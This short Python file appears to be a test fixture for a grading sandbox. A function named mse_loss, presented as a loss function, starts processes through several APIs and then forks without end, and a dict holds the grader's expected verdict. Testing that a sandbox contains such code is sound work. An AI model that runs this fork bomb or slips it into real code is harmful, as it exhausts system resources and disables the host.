"""A fork bomb, with every way that Python has to start a process."""

import os
import subprocess

EXPECT = {"status": "graded", "score": 95, "outcomes": {"student_error"}}


def mse_loss(prediction, target):
    for start in (lambda: subprocess.Popen(["/bin/true"]), lambda: os.posix_spawn("/bin/true", ["true"], {})):
        try:
            start()
        except OSError:
            continue
    while True:
        os.fork()
